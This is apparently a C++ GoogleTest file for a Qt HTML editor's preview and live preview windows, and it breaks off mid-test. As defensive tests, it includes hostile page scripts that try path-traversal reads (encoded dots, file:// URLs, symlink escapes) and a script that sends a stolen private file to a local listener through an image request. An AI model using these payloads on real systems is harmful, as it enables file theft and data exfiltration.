// SPDX-License-Identifier: GPL-3.0-or-later
// The Preview tab and the live preview window in the real browser engine: the preview
// file is written, rendered and deleted as the tabs are clicked; the page's own pictures
// and styles load from the document's folder and nothing else local can be read, neither
// by a page left behind nor by another running copy's page; the preview file is private
// to its run; a page's dialogs and endless loops never hold up the editor; the live
// window follows the typing.
#include <gtest/gtest.h>

#include <QAction>
#include <QApplication>
#include <QDialog>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QImage>
#include <QLabel>
#include <QMenu>
#include <QNetworkInterface>
#include <QProcess>
#include <QScreen>
#include <QSettings>
#include <QStandardPaths>
#include <QTabBar>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <csignal>
#include <sys/stat.h>

#include "app/document.h"
#include "app/frmlivepreview.h"
#include "app/frmmain.h"
#include "app/livepreview.h"
#include "app/preview.h"
#include "app/previewbrowser.h"
#include "app/previewfolder.h"
#include "app/previewscheme.h"
#include "editor/txtcode.h"
#include "mainwindowtest.h"
#include "scripteddialogs.h"
#include "testutil.h"

namespace {

// The value of a script run in the page, once the engine has answered.
QVariant evalJs(QWebEngineView* view, const QString& script) {
    QVariant result;
    bool done = false;
    view->page()->runJavaScript(script, [&](const QVariant& v) {
        result = v;
        done = true;
    });
    waitUntil([&] { return done; }, 30000);
    return result;
}

// Waits until the view shows a page titled `title` that has finished loading.
bool waitForPage(QWebEngineView* view, const QString& title) {
    return waitUntil(
        [&] {
            return view->title() == title &&
                   evalJs(view, QStringLiteral("document.readyState")).toString() ==
                       QStringLiteral("complete");
        },
        30000);
}

// A picture of the given size.
bool writePicture(const QString& path, int width, int height) {
    QImage img(width, height, QImage::Format_RGB32);
    img.fill(Qt::red);
    return img.save(path);
}

// The permission bits of a file or folder (not following a link), or -1.
int modeOf(const QString& path) {
    struct stat st {};
    if (::lstat(QFile::encodeName(path).constData(), &st) != 0)
        return -1;
    return int(st.st_mode & 07777);
}

// Closes every modal window that comes up, as a user pressing Cancel would, and counts
// them: a page's dialog must never be one.
class ModalWatch {
public:
    ModalWatch() {
        timer_.setInterval(20);
        QObject::connect(&timer_, &QTimer::timeout, [this] {
            if (auto* box = qobject_cast<QDialog*>(QApplication::activeModalWidget())) {
                ++seen;
                box->reject();
            }
        });
        timer_.start();
    }
    int seen = 0;

private:
    QTimer timer_;
};

// A web server on this machine that a hostile page sends what it read to.
class Listener {
public:
    Listener() {
        server_.listen(QHostAddress::LocalHost);
        QObject::connect(&server_, &QTcpServer::newConnection, [this] {
            QTcpSocket* c = server_.nextPendingConnection();
            QObject::connect(c, &QTcpSocket::readyRead, c, [this, c] {
                heard += QUrl::fromPercentEncoding(c->readAll());
                c->write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
                c->disconnectFromHost();
            });
        });
    }
    // The address a page sends its findings to.
    QString url() const { return QStringLiteral("http://127.0.0.1:%1/").arg(server_.serverPort()); }
    QString heard;

private:
    QTcpServer server_;
};

// The main window with the run's private folder (where the preview file goes) made in the
// fixture's temporary folder.
class PreviewTab : public MainWindowTest {
protected:
    void SetUp() override {
        // Where the live window remembers its place: a folder of this test's own.
        QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, settingsDir.path());
        MainWindowTest::SetUp();
        w->preview()->setFolderBases({dir.path()});
    }
    // The main window goes while the settings folder is still there.
    void TearDown() override { w.reset(); }
    void clickTab(int index) { clickTab(*w, index); }
    static void clickTab(frmMain& window, int index) {
        QTabBar* tabs = window.tsMain();
        QTest::mouseClick(tabs, Qt::LeftButton, {}, tabs->tabRect(index).center());
    }
    QString previewFile() const { return w->preview()->lastFile(); }
    // Every preview file under the fixture's folder.
    QStringList previewCopies() const {
        QStringList found;
        QDirIterator it(dir.path(), {QStringLiteral("meh.html")}, QDir::Files | QDir::Hidden,
                        QDirIterator::Subdirectories);
        while (it.hasNext())
            found << it.next();
        return found;
    }
    QWebEngineView* browser() const { return w->preview()->browser(); }
    // The line above the page, when it shows.
    static QString notice(QWebEngineView* view) {
        auto* line = view->findChild<QLabel*>(QStringLiteral("lblPreviewNotice"));
        return line && line->isVisible() ? line->text() : QString();
    }

    QTemporaryDir settingsDir;
};

TEST_F(PreviewTab, CodePreviewCodeWritesRendersAndDeletesThePreviewFile) {
    w->txtCode()->SetText(QStringLiteral("<html><head><title>Hello preview</title></head>"
                                         "<body><p>caf\u00e9</p></body></html>"));
    w->txtCode()->SetModified(false);
    w->txtCode()->SetSelStart(0);
    w->txtCode()->SetSelLength(6);
    w->txtCode()->SetSelColor(16711680);

    clickTab(1);
    ASSERT_TRUE(QFile::exists(previewFile()));
    EXPECT_EQ(QFileInfo(previewFile()).fileName(), QStringLiteral("meh.html"));
    EXPECT_EQ(QFileInfo(previewFile()).absolutePath().section(QLatin1Char('/'), 0, -2),
              QDir(dir.path()).canonicalPath())
        << "in a folder of the run's own";
    QFile f(previewFile());
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(QString::fromUtf8(f.readAll()), w->txtCode()->Text()) << "plain text only";
    f.close();
    EXPECT_FALSE(w->txtCode()->isVisible());
    ASSERT_NE(w->preview()->browser(), nullptr);
    EXPECT_EQ(w->preview()->browser()->objectName(), QStringLiteral("wbPreview"));
    EXPECT_TRUE(w->preview()->browser()->isVisible());
    EXPECT_TRUE(waitUntil(
        [&] { return w->preview()->browser()->title() == QStringLiteral("Hello preview"); },
        30000));
    EXPECT_FALSE(w->txtCode()->Modified()) << "the preview never changes the document";
    EXPECT_EQ(w->windowTitle(), QStringLiteral("Untitled"));

    clickTab(0);
    EXPECT_FALSE(QFile::exists(previewFile()));
    EXPECT_TRUE(w->txtCode()->isVisible());
    EXPECT_FALSE(w->preview()->browser()->isVisible());
}

TEST_F(PreviewTab, ClickingPreviewAgainShowsTheTextOfThatMoment) {
    w->txtCode()->SetText(QStringLiteral("<title>one</title>"));
    clickTab(1);
    ASSERT_TRUE(waitUntil([&] { return w->preview()->browser()->title() == QStringLiteral("one"); },
                          30000));
    // A command inserts into the hidden editor; the next click on Preview shows it.
    w->txtCode()->SetText(QStringLiteral("<title>two</title>"));
    clickTab(1);
    EXPECT_TRUE(waitUntil([&] { return w->preview()->browser()->title() == QStringLiteral("two"); },
                          30000));
}

TEST_F(PreviewTab, CodeBeforeAnyPreviewAndAnEmptyDocumentAreFine) {
    clickTab(0);
    EXPECT_TRUE(d.calls.isEmpty());
    clickTab(1);
    QFile f(previewFile());
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(f.size(), 0);
    EXPECT_TRUE(d.calls.isEmpty());
}

TEST_F(PreviewTab, AnUnusableFolderFallsBackAndStillPreviews) {
    // A "folder" that is a regular file cannot hold the preview, even for root.
    const QString notAFolder = dir.filePath(QStringLiteral("file"));
    ASSERT_TRUE(writeBytes(notAFolder, QByteArray()));
    w->preview()->setFolderBases({notAFolder, dir.filePath(QStringLiteral("fallback"))});
    w->txtCode()->SetText(QStringLiteral("<title>fallback</title>"));
    clickTab(1);
    const QString used = w->preview()->lastFile();
    EXPECT_FALSE(used.startsWith(notAFolder));
    EXPECT_TRUE(QFile::exists(used));
    EXPECT_TRUE(d.calls.isEmpty());
    EXPECT_TRUE(waitUntil(
        [&] { return w->preview()->browser()->title() == QStringLiteral("fallback"); }, 30000));
    clickTab(0);
    EXPECT_FALSE(QFile::exists(used));
}

TEST_F(PreviewTab, AnUntitledPagesRelativePictureIsNotFound) {
    // An untitled document has no folder: a picture beside the preview file is not the
    // page's.
    clickTab(1);
    ASSERT_FALSE(previewFile().isEmpty());
    ASSERT_TRUE(
        writePicture(QFileInfo(previewFile()).dir().filePath(QStringLiteral("dot.png")), 4, 4));
    ASSERT_TRUE(writePicture(dir.filePath(QStringLiteral("dot.png")), 4, 4));
    w->txtCode()->SetText(QStringLiteral("<html><body><img id='i' src='dot.png' "
                                         "onload=\"document.title='loaded ' + this.naturalWidth\" "
                                         "onerror=\"document.title='failed'\"></body></html>"));
    clickTab(1);
    EXPECT_TRUE(waitUntil(
        [&] {
            const QString t = browser()->title();
            return t == QStringLiteral("failed") || t.startsWith(QStringLiteral("loaded"));
        },
        30000));
    EXPECT_EQ(browser()->title(), QStringLiteral("failed"));
}

// A saved site: the document in a folder with an awkward name (spaces, "#", "%", an
// accent), its picture in a subfolder, style sheets and a framed page of its own, some in
// Windows-1252 that they declare themselves.
class SavedSite : public PreviewTab {
protected:
    void SetUp() override {
        PreviewTab::SetUp();
        site = QDir(outer.path()).filePath(QStringLiteral("my site #1 %20 caf\u00e9"));
        ASSERT_TRUE(QDir().mkpath(site + QStringLiteral("/pics")));
        ASSERT_TRUE(writePicture(site + QStringLiteral("/pics/a.png"), 5, 3));
        ASSERT_TRUE(writeBytes(site + QStringLiteral("/style.css"), "p { color: rgb(1, 2, 3); }"));
        ASSERT_TRUE(writeBytes(site + QStringLiteral("/latin.css"),
                               "@charset \"windows-1252\";\n#c::after { content: \"\xE9\"; }"));
        ASSERT_TRUE(writeBytes(site + QStringLiteral("/latin.html"),
                               "<html><head><meta charset=\"windows-1252\"></head>"
                               "<body>\xE9</body></html>"));
        ASSERT_TRUE(writeBytes(site + QStringLiteral("/index.html"), "<title>on disk</title>"));
        ASSERT_TRUE(w->document()->OpenPath(site + QStringLiteral("/index.html")));
    }
    // The editor's text, which differs from the file on disk.
    void typePage(const QString& extraHead = QString()) {
        w->txtCode()->SetText(
            QStringLiteral("<html><head><title>site</title>"
                           "<link rel='stylesheet' href='style.css'>"
                           "<link rel='stylesheet' href='latin.css'>%1</head><body>"
                           "<p id='p'>text</p><span id='c'></span><img id='i' src='pics/a.png'>"
                           "<iframe id='f' src='latin.html'></iframe></body></html>")
                .arg(extraHead));
    }
    // What the page shows of its folder: picture size, a style, and the two characters
    // that came in Windows-1252.
    static QString whatLoaded(QWebEngineView* view) {
        return evalJs(view,
                      QStringLiteral(
                          "var i = document.getElementById('i');"
                          "[i.naturalWidth + 'x' + i.naturalHeight,"
                          " getComputedStyle(document.getElementById('p')).color,"
                          " getComputedStyle(document.getElementById('c'), '::after').content,"
                          " document.getElementById('f').contentDocument.body.textContent"
                          "].join('|')"))
            .toString();
    }

    QTemporaryDir outer;
    QString site;
};

TEST_F(SavedSite, PreviewShowsTheEditorsTextWithItsFoldersPicturesAndStyles) {
    typePage();
    clickTab(1);
    ASSERT_TRUE(waitForPage(browser(), QStringLiteral("site"))) << browser()->title().toStdString();
    EXPECT_EQ(whatLoaded(browser()), QStringLiteral("5x3|rgb(1, 2, 3)|\"\u00e9\"|\u00e9"));
    // The page sits at the document's own address; its bytes are still the preview file's.
    EXPECT_EQ(browser()->url().path(QUrl::FullyDecoded),
              QDir::cleanPath(site + QStringLiteral("/index.html")));
    EXPECT_TRUE(QFile::exists(previewFile()));
    EXPECT_EQ(readBytes(previewFile()), w->txtCode()->Text().toUtf8());
    clickTab(0);
    EXPECT_FALSE(QFile::exists(previewFile()));
}

TEST_F(SavedSite, RemoteStyleSheetsLoadAsInABrowser) {
    // A plain-http server on this machine's own network address (a loopback one where
    // there is none) stands in for a style-sheet CDN.
    QHostAddress address(QHostAddress::LocalHost);
    for (const QHostAddress& a : QNetworkInterface::allAddresses())
        if (a.protocol() == QAbstractSocket::IPv4Protocol && !a.isLoopback()) {
            address = a;
            break;
        }
    QTcpServer server;
    ASSERT_TRUE(server.listen(address));
    QObject::connect(&server, &QTcpServer::newConnection, [&] {
        QTcpSocket* c = server.nextPendingConnection();
        QObject::connect(c, &QTcpSocket::readyRead, c, [c] {
            c->readAll();
            const QByteArray body = "#p { font-size: 31px; }";
            c->write("HTTP/1.1 200 OK\r\nContent-Type: text/css\r\nConnection: close\r\n"
                     "Content-Length: " +
                     QByteArray::number(body.size()) + "\r\n\r\n" + body);
            c->disconnectFromHost();
        });
    });
    typePage(QStringLiteral("<link rel='stylesheet' href='http://%1:%2/cdn.css'>")
                 .arg(address.toString())
                 .arg(server.serverPort()));
    clickTab(1);
    ASSERT_TRUE(waitForPage(browser(), QStringLiteral("site")));
    EXPECT_EQ(
        evalJs(browser(), QStringLiteral("getComputedStyle(document.getElementById('p')).fontSize"))
            .toString(),
        QStringLiteral("31px"));
}

// A hostile page: its script tries to read one address through a request and through a
// frame's document, and shows what it got in the title.
struct ReadAttempt {
    const char* name;
    bool titled;         // the page is a saved document in site/, else untitled
    const char* address; // %SITE% the document's folder, %PROG% the program's folder,
                         // %OUT% the folder around site/, %COPY% the preview file
    bool readable;
};

const ReadAttempt kReadAttempts[] = {
    // The one address that may be read: the harness sees a read when there is one.
    {"OwnFolderFile", true, "own.txt", true},
    {"OwnFolderFileByAbsoluteAddress", true, "verrindel-preview:%SITE%/own.txt", true},
    {"ProgramFolderFile", true, "verrindel-preview:%PROG%/secret.txt", false},
    {"ProgramFolderFileFromUntitledPage", false, "verrindel-preview:%PROG%/secret.txt", false},
    {"RelativeFromUntitledPage", false, "secret.txt", false},
    {"ParentThroughDotDot", true, "../secret.txt", false},
    {"ParentThroughEncodedDots", true, "%2e%2e/secret.txt", false},
    {"ParentThroughEncodedSlash", true, "..%2fsecret.txt", false},
    {"ParentThroughDoubleEncoding", true, "%252e%252e/secret.txt", false},
    {"RootRelativeAddress", true, "%OUT%/secret.txt", false},
    {"SymbolicLinkLeadingOut", true, "escape/secret.txt", false},
    {"HiddenFolderInside", true, ".private/secret.txt", false},
    {"FileUrl", true, "file://%OUT%/secret.txt", false},
    {"FileUrlFromUntitledPage", false, "file://%OUT%/secret.txt", false},
    {"PreviewFileByItsPath", true, "verrindel-preview:%COPY%", false},
    {"PreviewFileByItsPathFromUntitledPage", false, "verrindel-preview:%COPY%", false},
    {"PreviewFileAsFileUrl", false, "file://%COPY%", false},
    {"OwnFolderFileThroughAnotherHost", true, "//etc%SITE%/own.txt", false},
    {"OwnFolderFileThroughAnotherHostsFullAddress", true, "verrindel-preview://etc%SITE%/own.txt",
     false},
};

void PrintTo(const ReadAttempt& a, std::ostream* os) {
    *os << a.address;
}

class HostilePage : public PreviewTab, public ::testing::WithParamInterface<ReadAttempt> {};

TEST_P(HostilePage, ReadsOnlyItsOwnFolder) {
    const ReadAttempt& a = GetParam();
    QTemporaryDir out;
    const QString site = out.filePath(QStringLiteral("site"));
    ASSERT_TRUE(QDir().mkpath(site + QStringLiteral("/.private")));
    for (const QString& secret :
         {dir.filePath(QStringLiteral("secret.txt")), out.filePath(QStringLiteral("secret.txt")),
          site + QStringLiteral("/.private/secret.txt")})
        ASSERT_TRUE(writeBytes(secret, "TOPSECRET"));
    ASSERT_TRUE(writeBytes(site + QStringLiteral("/own.txt"), "OWN"));
    ASSERT_TRUE(QFile::link(out.path(), site + QStringLiteral("/escape")));
    if (a.titled) {
        ASSERT_TRUE(writeBytes(site + QStringLiteral("/index.html"), ""));
        ASSERT_TRUE(w->document()->OpenPath(site + QStringLiteral("/index.html")));
    }
    // A first preview makes the preview file.
    clickTab(1);
    ASSERT_FALSE(previewFile().isEmpty());
    const QString address = QString::fromLatin1(a.address)
                                .replace(QStringLiteral("%COPY%"), previewFile())
                                .replace(QStringLiteral("%SITE%"), site)
                                .replace(QStringLiteral("%PROG%"), dir.path())
                                .replace(QStringLiteral("%OUT%"), out.path());
    w->txtCode()->SetText(
        QStringLiteral(
            "<html><head><title>start</title></head><body><script>"
            "var settled = 0;"
            "function got(t) { document.title = 'read:' + t; }"
            "function failed() { if (++settled == 2 && document.title == 'start')"
            "  document.title = 'blocked'; }"
            "var x = new XMLHttpRequest();"
            "x.onload = function() { if (x.status == 200 || x.status == 0) "
            "  got(x.responseText); else failed(); };"
            "x.onerror = failed;"
            "try { x.open('GET', '%1'); x.send(); } catch (e) { failed(); }"
            "var f = document.createElement('iframe');"
            "f.onload = function() {"
            "  try { got(f.contentDocument.body.textContent); } catch (e) { failed(); } };"
            "f.src = '%1'; document.body.appendChild(f);"
            "setTimeout(function() { if (document.title == 'start') "
            "  document.title = 'blocked'; }, 5000);"
            "</script></body></html>")
            .arg(address));
    clickTab(1);
    ASSERT_TRUE(waitUntil(
        [&] {
            const QString t = browser()->title();
            return t == QStringLiteral("blocked") || t.startsWith(QStringLiteral("read:"));
        },
        30000))
        << browser()->title().toStdString();
    if (a.readable) {
        EXPECT_EQ(browser()->title(), QStringLiteral("read:OWN")) << address.toStdString();
    } else {
        EXPECT_EQ(browser()->title(), QStringLiteral("blocked")) << address.toStdString();
        EXPECT_FALSE(browser()->title().contains(QStringLiteral("TOPSECRET")));
    }
}

INSTANTIATE_TEST_SUITE_P(Addresses, HostilePage, ::testing::ValuesIn(kReadAttempts),
                         NameFrom<&ReadAttempt::name>());

TEST_F(SavedSite, LiveWindowShowsTheFoldersPicturesAndStylesToo) {
    typePage();
    menuItem(*w, "mnuLivePreview")->trigger();
    frmLivePreview* live = w->livePreview()->window();
    ASSERT_NE(live, nullptr);
    ASSERT_TRUE(waitForPage(live->wbLivePreview, QStringLiteral("site")));
    EXPECT_EQ(whatLoaded(live->wbLivePreview),
              QStringLiteral("5x3|rgb(1, 2, 3)|\"\u00e9\"|\u00e9"));
    EXPECT_TRUE(previewCopies().isEmpty()) << "the live window writes no preview file";
}

// The live preview window as the user drives it: the View menu, typing in the editor,
// scrolling the page, closing either window.
class LiveWindow : public PreviewTab {
protected:
    void SetUp() override {
        PreviewTab::SetUp();
        w->activateWindow();
        editor()->setFocus();
        ASSERT_TRUE(waitUntil([&] { return QApplication::focusWidget() == editor(); }));
    }
    QAction* command() const { return menuItem(*w, "mnuLivePreview"); }
    frmLivePreview* live() const { return w->livePreview()->window(); }
    // The text the live window's page shows.
    QString pageText() const {
        return evalJs(live()->wbLivePreview,
                      QStringLiteral("document.body ? document.body.textContent : ''"))
            .toString();
    }
    bool showsText(const QString& text) const {
        return waitUntil([&] { return pageText().contains(text); }, 30000);
    }
    // The keyboard is still the editor's and the main window the active one.
    bool editorHasFocus() const {
        return QApplication::focusWidget() == editor() && QApplication::activeWindow() == w.get();
    }
    // The live windows that exist, open or not yet deleted.
    static int liveWindows() {
        QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
        int n = 0;
        for (QWidget* t : QApplication::topLevelWidgets())
            n += qobject_cast<frmLivePreview*>(t) != nullptr;
        return n;
    }
    void typeAtEnd(const QString& text) {
        editor()->SetSelStart(editor()->TextLength());
        QTest::keyClicks(editor(), text);
    }
};

TEST_F(LiveWindow, CtrlShiftPOpensItBesideTheEditorWithoutTakingTheFocus) {
    QAction* a = command();
    EXPECT_EQ(a->text(), QStringLiteral("Live Preview"));
    EXPECT_TRUE(a->isCheckable());
    EXPECT_FALSE(a->isChecked());
    EXPECT_EQ(a->shortcut(), QKeySequence(QStringLiteral("Ctrl+Shift+P")));
    EXPECT_TRUE(menuNamed(*w, "mnuView")->actions().contains(a));
    EXPECT_EQ(menuNamed(*w, "mnuView")->title(), QStringLiteral("View"));
    EXPECT_EQ(liveWindows(), 0) << "nothing exists before the command";

    editor()->SetText(QStringLiteral("<title>one</title><p>first words</p>"));
    QTest::keyClick(editor(), Qt::Key_P, Qt::ControlModifier | Qt::ShiftModifier);
    ASSERT_NE(live(), nullptr);
    EXPECT_TRUE(a->isChecked());
    EXPECT_EQ(live()->objectName(), QStringLiteral("frmLivePreview"));
    EXPECT_EQ(live()->windowTitle(), QStringLiteral("Live Preview"));
    EXPECT_TRUE(live()->isWindow());
    EXPECT_EQ(live()->parentWidget(), nullptr);
    EXPECT_FALSE(live()->isModal());
    EXPECT_TRUE(live()->isVisible());
    EXPECT_EQ(live()->wbLivePreview->objectName(), QStringLiteral("wbLivePreview"));
    EXPECT_TRUE(w->isEnabled()) << "the main window is never disabled";
    QScreen* screen = QGuiApplication::primaryScreen();
    EXPECT_TRUE(screen->availableGeometry().contains(live()->geometry()));
    EXPECT_TRUE(showsText(QStringLiteral("first words"))) << pageText().toStdString();
    EXPECT_TRUE(editorHasFocus());
    // The typing goes on in the editor.
    typeAtEnd(QStringLiteral("x"));
    EXPECT_TRUE(editor()->Text().endsWith(QLatin1Char('x')));
    EXPECT_EQ(editor()->Text().count(QLatin1Char('x')), 1);
}

TEST_F(LiveWindow, FollowsThreeEditsWhileTheFocusStaysInTheEditor) {
    editor()->SetText(QStringLiteral("<body>start"));
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    ASSERT_TRUE(showsText(QStringLiteral("start")));
    QString shown = QStringLiteral("start");
    for (const QString& word :
         {QStringLiteral(" alpha"), QStringLiteral(" beta"), QStringLiteral(" gamma")}) {
        typeAtEnd(word);
        shown += word;
        EXPECT_TRUE(showsText(shown)) << pageText().toStdString();
        EXPECT_TRUE(editorHasFocus()) << word.toStdString();
    }
    EXPECT_EQ(pageText(), QStringLiteral("start alpha beta gamma"));
    // A command's insertion and a new document are followed too.
    menuItem(*w, "mnuSelect")->trigger();
    editor()->SetSelText(QStringLiteral("<p>replaced</p>"));
    EXPECT_TRUE(showsText(QStringLiteral("replaced")));
    editor()->SetModified(false);
    menuItem(*w, "mnuNew")->trigger();
    EXPECT_TRUE(waitUntil([&] { return pageText().isEmpty(); }, 30000));
}

// A web server on this machine that holds back its answers until released, so that a
// page naming one of its pictures stays loading.
class HeldServer {
public:
    HeldServer() {
        server_.listen(QHostAddress::LocalHost);
        QObject::connect(&server_, &QTcpServer::newConnection, [this] {
            QTcpSocket* c = server_.nextPendingConnection();
            QObject::connect(c, &QTcpSocket::readyRead, c, [this, c] {
                c->readAll();
                ++asked;
                held_ << c;
                if (released_)
                    answer();
            });
        });
    }
    QString url() const { return QStringLiteral("http://127.0.0.1:%1/").arg(server_.serverPort()); }
    void release() {
        released_ = true;
        answer();
    }
    int asked = 0;

private:
    void answer() {
        for (QTcpSocket* c : std::exchange(held_, {})) {
            c->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            c->disconnectFromHost();
        }
    }
    QTcpServer server_;
    QList<QTcpSocket*> held_;
    bool released_ = false;
};

TEST_F(LiveWindow, NeverStacksLoadsTheNewestTextFollowsWhenTheLoadEnds) {
    HeldServer server;
    editor()->SetText(QStringLiteral("<img src='%1pic.png'><p>first</p>").arg(server.url()));
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    QWebEngineView* view = live()->wbLivePreview;
    int started = 0;
    QObject::connect(view, &QWebEngineView::loadStarted, [&] { ++started; });
    ASSERT_TRUE(waitUntil([&] { return server.asked > 0; }, 30000)) << "the first page loads";
    // Three edits, each after a pause, while the first page is still loading.
    for (const QString& word : {QStringLiteral(" a"), QStringLiteral(" b"), QStringLiteral(" c")}) {
        typeAtEnd(word);
        QTest::qWait(3 * LivePreview::kPauseMs);
    }
    EXPECT_EQ(started, 1) << "no load starts while one runs";
    EXPECT_TRUE(pageText().contains(QStringLiteral("first"))) << pageText().toStdString();
    EXPECT_FALSE(pageText().contains(QStringLiteral(" a")));
    server.release();
    // Once the first load ends, the newest text follows, and only it.
    EXPECT_TRUE(showsText(QStringLiteral("first a b c"))) << pageText().toStdString();
    EXPECT_TRUE(waitUntil([&] {
        return evalJs(view, QStringLiteral("document.readyState")).toString() ==
               QStringLiteral("complete");
    }));
    QTest::qWait(3 * LivePreview::kPauseMs);
    EXPECT_EQ(started, 2);
    EXPECT_TRUE(editorHasFocus());
}

TEST_F(LiveWindow, KeepsItsScrollPositionAcrossRefreshes) {
    // The second page tells the browser to leave scroll positions to its own scripts.
    for (const QString& script :
         {QString(), QStringLiteral("<script>history.scrollRestoration = 'manual';</script>")}) {
        editor()->SetText(script + QStringLiteral("<body style='height: 6000px'><p>top</p>"));
        command()->trigger();
        ASSERT_NE(live(), nullptr);
        QWebEngineView* view = live()->wbLivePreview;
        ASSERT_TRUE(showsText(QStringLiteral("top")));
        evalJs(view, QStringLiteral("window.scrollTo(0, 1500)"));
        auto scrollY = [&] { return evalJs(view, QStringLiteral("window.scrollY")).toInt(); };
        ASSERT_TRUE(waitUntil([&] {
            return scrollY() == 1500 && qRound(view->page()->scrollPosition().y()) == 1500;
        }));
        // Two refreshes, the second typed while the first may still be loading.
        typeAtEnd(QStringLiteral(" one"));
        ASSERT_TRUE(showsText(QStringLiteral("top one")));
        typeAtEnd(QStringLiteral(" two"));
        ASSERT_TRUE(showsText(QStringLiteral("top one two")));
        EXPECT_TRUE(waitUntil([&] { return scrollY() == 1500; }))
            << scrollY() << " " << script.toStdString();
        command()->trigger();
    }
}

TEST_F(LiveWindow, ClosingItUnchecksTheCommandAndLeavesNothingBehind) {
    editor()->SetText(QStringLiteral("<p>hello</p>"));
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    ASSERT_TRUE(showsText(QStringLiteral("hello")));
    live()->close(); // the window's close control
    EXPECT_FALSE(command()->isChecked());
    EXPECT_EQ(live(), nullptr);
    EXPECT_EQ(liveWindows(), 0) << "the window and its browser are gone";
    typeAtEnd(QStringLiteral("more"));
    QTest::qWait(2 * LivePreview::kPauseMs);
    EXPECT_EQ(liveWindows(), 0) << "typing brings nothing back";

    // Open again, shown the current text; the command unchecked closes it.
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    EXPECT_TRUE(showsText(QStringLiteral("hellomore")));
    command()->trigger();
    EXPECT_FALSE(command()->isChecked());
    EXPECT_EQ(liveWindows(), 0);
}

TEST_F(LiveWindow, RemembersItsSizeAndPosition) {
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    const QRect chosen(120, 140, 520, 410);
    live()->setGeometry(chosen);
    ASSERT_TRUE(waitUntil([&] { return live()->geometry() == chosen; }));
    command()->trigger();
    ASSERT_EQ(live(), nullptr);
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    EXPECT_TRUE(waitUntil([&] { return live()->geometry() == chosen; }))
        << live()->geometry().x() << "," << live()->geometry().y() << " "
        << live()->geometry().width() << "x" << live()->geometry().height();
}

TEST_F(LiveWindow, StaysUsableWhileAToolWindowDisablesTheMainWindow) {
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    trigger("mnuGoto");
    QWidget* gotoWindow = nullptr;
    for (QWidget* t : QApplication::topLevelWidgets())
        if (t->objectName() == QStringLiteral("frmGoto") && t->isVisible())
            gotoWindow = t;
    ASSERT_NE(gotoWindow, nullptr);
    EXPECT_FALSE(w->isEnabled());
    EXPECT_TRUE(live()->isEnabled());
    EXPECT_TRUE(live()->wbLivePreview->isEnabled());
    gotoWindow->close();
    EXPECT_TRUE(w->isEnabled());
    EXPECT_NE(live(), nullptr);
}

TEST_F(LiveWindow, NoWindowOutlivesTheMainWindow) {
    // One window closed (its deletion still pending) and one open, then the main window
    // goes without the event loop running again, as at the end of the program.
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    live()->close();
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    w.reset();
    int left = 0;
    for (QWidget* t : QApplication::topLevelWidgets())
        left += qobject_cast<frmLivePreview*>(t) != nullptr;
    EXPECT_EQ(left, 0);
}

TEST_F(LiveWindow, ClosesWithTheMainWindowButNotWhenTheCloseIsCancelled) {
    command()->trigger();
    ASSERT_NE(live(), nullptr);
    d.answer(Dialogs::Answer::Cancel);
    EXPECT_FALSE(w->close());
    EXPECT_NE(live(), nullptr);
    EXPECT_TRUE(live()->isVisible());
    d.answer(Dialogs::Answer::No);
    EXPECT_TRUE(w->close());
    EXPECT_EQ(live(), nullptr);
    EXPECT_FALSE(command()->isChecked());
    EXPECT_EQ(liveWindows(), 0);
}

// ---- a page left behind, another running copy, a killed run -----------------------------

// A page left on the Preview tab while the user opens another document and previews it.
struct LeftBehindCase {
    const char* name;
    bool asksBeforeLeaving; // it registers beforeunload and the user clicked into it
};

const LeftBehindCase kLeftBehindCases[] = {
    {"PollingPage", false},
    {"PageThatAsksBeforeLeaving", true},
};

void PrintTo(const LeftBehindCase& c, std::ostream* os) {
    *os << c.name;
}

class PageLeftBehind : public PreviewTab, public ::testing::WithParamInterface<LeftBehindCase> {};

TEST_P(PageLeftBehind, NeverReadsTheNextDocumentsFolder) {
    const LeftBehindCase& c = GetParam();
    QTemporaryDir out;
    const QString siteA = out.filePath(QStringLiteral("a")),
                  siteB = out.filePath(QStringLiteral("b"));
    ASSERT_TRUE(QDir().mkpath(siteA) && QDir().mkpath(siteB));
    ASSERT_TRUE(writeBytes(siteA + QStringLiteral("/private.txt"), "A-PRIVATE"));
    ASSERT_TRUE(writeBytes(siteA + QStringLiteral("/a.html"), ""));
    ASSERT_TRUE(writeBytes(siteB + QStringLiteral("/b.html"), ""));
    Listener listener;

    // Page B reads A's private file by every spelling it can, again and again, and sends
    // whatever it gets away.
    ASSERT_TRUE(w->document()->OpenPath(siteB + QStringLiteral("/b.html")));
    editor()->SetText(
        QStringLiteral("<html><head><title>B</title></head><body style='height: 2000px'>B<script>"
                       "var targets = ['%1/private.txt', 'verrindel-preview:%1/private.txt',"
                       "  '../a/private.txt', '//x%1/private.txt'];"
                       "function read() { targets.forEach(function(u) {"
                       "  var x = new XMLHttpRequest();"
                       "  x.onload = function() { if (x.status == 200 && x.responseText)"
                       "    new Image().src = '%2' + encodeURIComponent(x.responseText); };"
                       "  x.open('GET', u); x.send(); }); }"
                       "setInterval(read, 10);"
                       "%3"
                       "</script></body></html>")
            .arg(siteA, listener.url(),
                 c.asksBeforeLeaving
                     ? QStringLiteral("onbeforeunload = function(e) {"
                                      "  e.preventDefault(); e.returnValue = 'stay';"
                                      "  return 'stay'; };")
                     : QString()));
    editor()->SetModified(false);
    clickTab(1);
    ASSERT_TRUE(waitForPage(browser(), QStringLiteral("B")));
    const QString hostB = browser()->url().host();
    if (c.asksBeforeLeaving) {
        // A page may only ask once the user has done something in it.
